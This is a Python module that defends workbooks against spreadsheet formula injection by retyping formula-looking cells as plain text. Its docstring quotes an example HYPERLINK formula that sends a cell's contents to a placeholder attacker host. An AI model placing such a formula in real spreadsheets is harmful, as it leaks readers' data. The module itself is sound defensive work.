"""Worksheets duban writes hold data, never formulas: text that looks like a formula stays text.

openpyxl stores any string beginning with ``=`` as a formula, so a task, unit name or report sentence such
as ``=HYPERLINK("http://evil/?"&A1,"点击")`` would run in the reader's spreadsheet program (formula
injection, OWASP "CSV injection"). Every writer of a workbook passes it through ``keep_text`` before saving:
each such cell is typed as a plain string, so the text is kept exactly (no quote or apostrophe added) and reads
back, and re-imports, unchanged. Strings starting with ``+ - @``, tab or CR are already written as strings by
openpyxl (an .xlsx string cell is never evaluated); duban writes no formulas of its own.
"""

from __future__ import annotations

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING


def keep_text(book: Workbook) -> Workbook:
    """Type every formula-looking string cell of every sheet of ``book`` as text; returns ``book``."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == TYPE_FORMULA and isinstance(cell.value, str):
                    cell.data_type = TYPE_STRING
    return book
